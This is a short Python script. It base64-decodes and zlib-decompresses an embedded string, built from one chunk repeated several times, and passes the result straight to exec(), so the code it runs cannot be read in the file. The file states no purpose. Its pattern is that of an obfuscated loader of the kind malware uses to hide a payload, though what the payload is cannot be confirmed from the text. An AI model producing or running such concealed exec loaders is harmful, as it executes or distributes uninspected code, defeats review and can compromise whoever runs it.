import base64, zlib
_ = (
    "eJzLzC3ILypRyC/myi/WK64sLknN1VDPTFHX5MoclRlBMgB/+LBpeJzLzC3ILypRyC/myi/WK64sLknN1VDPTFHX5MoclRlBMgB/+LBpeJzLzC3ILypRyC/myi/WK64sLknN1VDPTFHX5MoclRlBMgB/+LBp"
    "eJzLzC3ILypRyC/myi/WK64sLknN1VDPTFHX5MoclRlBMgB/+LBpeJzLzC3ILypRyC/myi/WK64sLknN1VDPTFHX5MoclRlBMgB/+LBpeJzLzC3ILypRyC/myi/WK64sLknN1VDPTFHX5MoclRlBMgB/+LBp"
)
exec(zlib.decompress(base64.b64decode(_)).decode())
